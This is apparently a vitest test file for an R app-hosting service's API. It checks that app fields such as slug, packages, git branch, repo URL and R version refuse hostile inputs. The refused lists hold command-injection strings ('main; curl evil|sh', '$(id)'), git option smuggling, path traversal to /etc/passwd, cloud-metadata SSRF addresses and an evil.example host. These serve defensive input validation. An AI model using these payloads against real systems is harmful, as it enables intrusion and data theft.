import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Database } from '../../src/db/database.ts'
import type { SignedIn } from '../helpers/signed-in.ts'
import { openTestDatabase } from '../helpers/test-database.ts'
import { startTestManager, type TestManager } from '../helpers/test-manager.ts'

let database: Database
let manager: TestManager
let api: SignedIn
let made = 0

beforeAll(async () => {
  database = await openTestDatabase()
  manager = await startTestManager(database)
  api = await manager.signIn('alice')
})

afterAll(async () => {
  await manager[Symbol.asyncDispose]()
  await database[Symbol.asyncDispose]()
})

const git = (repoUrl: unknown, more = {}) => ({ codeSource: { type: 'git', repoUrl, ...more } })
const branch = (name: string) => git('https://github.com/u/r', { branch: name })
const packages = (...names: unknown[]) => ({ packages: names })

/** A good app but for the given fields. */
async function create(fields: object) {
  const app = { name: 'Demo', slug: `demo-${made++}`, rVersion: '4.4.1', codeSource: { type: 'upload' }, ...fields }
  const response = await api.send('/api/apps', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(app),
  })
  return { status: response.status, text: await response.text() }
}

// What users type, what scanners send, and what would mean something to Docker, Traefik, git or R.
const refused: Record<string, object[]> = {
  name: ['', ' \t ', 'n'.repeat(129), 'a\u0000b', 'abc\u202etxt.exe', '\ud800', true, ['x'], null].map((name) => ({
    name,
  })),
  slug: [
    ...['', 'Demo', '-demo', 'demo-', 'de mo', 'de.mo', '../api', '..', '%2e%2e', 'démo', 'demo\u2028', 'ab--cd'],
    ...['demo`) || PathPrefix(`/', "demo')||Host('x", 'demo;id', '{{.Name}}', 'demo?x=1', 'demo\\x', 'demo\n'],
    ...['a'.repeat(64), ['demo'], null, 1],
  ].map((slug) => ({ slug })),
  reserved: ['api', 'login', 'assets', 'healthz', 'metrics', 'openapi', 'admin', 'hooks', 'www', 'null', 'stopped'].map(
    (slug) => ({ slug }),
  ),
  packages: [
    ...[' ', '1abc', 'abc.', 'dplyr\n', "dplyr');system('id');#", '$(id)', 'dplyr|id', 'dplyr\\', '--vanilla', '-e'],
    ...['local::/etc', '/etc/passwd', '~/x', '.', 'git::file:///etc', 'url::http://169.254.169.254/', 'bioc::../x'],
    ...['user/repo@$(id)', 'user/repo@--upload-pack=x', 'user/repo@../../x', 'user//repo', `${'u'.repeat(40)}/repo`],
    ...['https://github.com/u/r', 'git@evil.example:u/r', 'dplyr,ggplot2', 'dplyr\u200b', 'a'.repeat(257), 5],
  ].map((name) => packages(name)),
  'package list': [{ packages: null }, { packages: 'dplyr' }, { packages: { 0: 'dplyr' } }, packages('dplyr', 'dplyr')],
  entryScript: [
    ...['.R', 'app', 'app.R.sh', 'a/../../app.R', '/app/app.R', 'R/app.R', "app.R'); system('id'); #.R", 'a\nb.R'],
    ...['-e.R', 'a b.R', '$(id).R', 'a;id.R', 'file:///etc/passwd.R', '\u202eR.ppa', 'démo.R', 'app.R\n', 1],
  ].map((entryScript) => ({ entryScript })),
  branch: [
    ...['', '--upload-pack=touch p', '-x', 'a b', 'a^', 'a:b', 'a*', 'a\\b', '@{u}', '@', 'a/', '/a', 'a//b', '.a'],
    ...['a/.b', 'a.', 'a..b', 'a.lock', 'a\u0000', 'a\u007f', 'main; curl evil|sh', '`id`', 'b'.repeat(256)],
  ].map((name) => branch(name)),
  repoUrl: [
    ...['http://github.com/u/r', 'git://github.com/u/r', 'ssh://git@github.com/u/r', 'git@github.com:u/r.git', '/etc'],
    ...['file:///etc', 'EXT::sh -c id', '-c core.sshCommand=id', 'https://github.com/u/r --upload-pack=x', 'https://'],
    ...[
      'https:///github.com/u/r',
      'https://user:secret@github.com/u/r',
      'https://localhost/u/r',
      'https://manager:3000/u/r',
    ],
    ...['https://127.0.0.1/u/r', 'https://[::1]/u/r', 'https://2130706433/u/r', 'https://0x7f000001/u/r'],
    ...['https://10.0.0.1/u/r', 'https://169.254.169.254/u/r', 'https://metadata.google.internal/u/r'],
    ...['https://host.docker.internal/u/r', 'https://github.com:22/u/r', 'https://github.com:1023/u/r'],
    ...['https://github.com:65536/u/r', 'https://ⓖithub.com/u/r', 'https://github.com/../../etc'],
    ...['https://github.com/u/r#frag', 'https://github.com/u/r?x=1', 'https://github.com/u/r\n', 1],
  ].map((url) => git(url)),
  codeSource: [
    { codeSource: { type: 'git' } },
    { codeSource: { type: 'upload', repoUrl: 'https://x.example/y' } },
    { codeSource: { type: 'ftp' } },
    { codeSource: 'upload' },
    { codeSource: null },
    git('https://github.com/u/r', { subdirectory: '../x' }),
    git('https://github.com/u/r', { subdirectory: '/etc' }),
  ],
  rVersion: [
    ...['', '4.4.1.1', ' 4.4.1', '4.4.1 AS x', '4.4.1-evil', '../4.4.1', '$(id)', '٤.٤.١', 'LATEST', 'latest\n', '4'],
    ...['99.99.99', '0.1.0', '4.4.2', 4.4],
  ].map((rVersion) => ({ rVersion })),
  replicas: [-1, 0, 11, 1.5, '3', true, null, 1e30].map((replicas) => ({ replicas })),
  resources: [
    ...[{ memoryBytes: 0 }, { memoryBytes: 1 }, { memoryBytes: 1e15 }, { memoryBytes: 1.5 }, { memorySwap: -1 }],
    ...[{ cpus: -1 }, { cpus: 0.001 }, { cpus: '1' }, { pids: 0 }, { pids: -1 }, { pids: 1e9 }, null],
  ].map((resources) => ({ resources })),
  'fields of others': [
    ...[{ ownerId: '0b9aa1b4-3f1c-4c4e-9a38-6a3f0a3cf0aa' }, { id: '0b9aa1b4-3f1c-4c4e-9a38-6a3f0a3cf0aa' }],
    ...[{ hostConfig: { Privileged: true } }, { dockerfile: 'FROM alpine' }, { desiredState: 'running' }],
  ],
}

const accepted: Record<string, object[]> = {
  name: [{ name: '<img src=x onerror=alert(1)>' }, { name: '  Übung № 5 👩‍🔬 ' }, { name: 'n'.repeat(128) }],
  slug: [{ slug: 'a' }, { slug: '0' }, { slug: 'a-b-c' }, { slug: 'a'.repeat(63) }, { slug: 'apiary' }],
  packages: [
    ...['dplyr', 'data.table', 'ggplot2@3.5.1', 'cran::jsonlite', 'any::dplyr', 'bioc::DESeq2', 'a1b2.c3'],
    ...[
      'tidyverse/dplyr@v1.1.4',
      'r-lib/cli@main',
      'r-lib/pak#123',
      'github::r-lib/cli',
      'r-lib/pkgdown/inst/sub@v2.0.0',
    ],
  ].map((name) => packages(name)),
  entryScript: ['run_rserve.R', 'APP.R', 'a.R', 'a.b-c.R'].map((entryScript) => ({ entryScript })),
  branch: ['main', 'release-1.0', 'v1.1.4', 'dependabot/docker/base-image_and_more/x-1.2.3', 'a', 'x@y'].map(branch),
  repoUrl: [
    ...['https://github.com/example/model', 'https://gitlab.com/group/sub-group/project.git'],
    ...['https://git.example.org/~user/repo.git', 'https://github.com/u/r.with.dots', 'https://git.test:8443/u/r'],
  ].map((url) => git(url)),
  rVersion: ['latest', '4.4', '4.4.1', undefined].map((rVersion) => ({ rVersion })),
  resources: [{ replicas: 10 }, { resources: {} }, { resources: { memoryBytes: 2 ** 30, cpus: 0.5, pids: 64 } }],
}

const cases = (table: Record<string, object[]>) =>
  Object.entries(table).flatMap(([area, list]) => list.map((fields) => [area, JSON.stringify(fields), fields] as const))

describe('an app is refused for its', () => {
  it.each(cases(refused))('%s: %s', async (_area, _text, fields) => {
    const { status, text } = await create(fields)
    expect({ status, text }).toEqual({ status: 400, text: expect.stringMatching(/"code":"[a-z-]+"/) })
    expect(text).not.toMatch(/node_modules|at \/|select /)
  })
})

describe('an app may have this', () => {
  it.each(cases(accepted))('%s: %s', async (_area, _text, fields) => {
    const { status, text } = await create(fields)
    expect({ status, text }).toEqual({ status: 201, text: expect.any(String) })
  })
})

it('names the R versions that are offered', async () => {
  expect((await create({ rVersion: '3.6.3' })).text).toMatch(/r-version-not-offered.*4\.5\.0, 4\.4\.1/)
})
